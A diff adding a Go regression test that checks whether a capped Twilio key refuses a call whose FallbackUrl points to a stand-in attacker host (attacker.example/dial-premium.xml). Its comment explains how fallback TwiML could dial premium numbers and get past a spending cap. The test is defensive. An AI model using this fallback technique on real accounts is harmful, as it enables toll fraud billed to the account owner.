@@ -89,3 +89,20 @@ func TestAttackResend_RecipientsPastEmailCap(t *testing.T) {
 		t.Fatalf("Resend counted %d emails (%d recipients) against its quota past a daily cap of 3", b.Recipients, b.Recipients)
 	}
 }
+
+// TestAttackTwilio_CallFallbackUrl: a call with closed inline Twiml was
+// priced at its own minutes even with a FallbackUrl, whose TwiML Twilio
+// fetches when the call's instructions fail, and which may <Dial> any
+// number for as long as it likes: now unpriced, so a capped key refuses it.
+func TestAttackTwilio_CallFallbackUrl(t *testing.T) {
+	e := MustOpenVendors(t)
+	_, secret := e.CreateKey(t, `{"vendor":"twilio","daily_usd_cap":"5","allowed_endpoints":["calls.create"]}`)
+	call := (&api.CreateCallParams{}).SetTo("+14155550123").SetFrom("+14155550100").SetTimeLimit(60).
+		SetTwiml(`<Response><Play>https://example.com/missing.mp3</Play></Response>`).
+		SetFallbackUrl("https://attacker.example/dial-premium.xml")
+	_, err := e.TwilioClient(t, secret).Api.CreateCall(call)
+	twilioErr(t, err, 403, twilio.CodeForbidden)
+	if n := len(e.Twilio.GroundTruth().Calls); n != 0 {
+		t.Fatalf("twiliosim placed %d calls", n)
+	}
+}
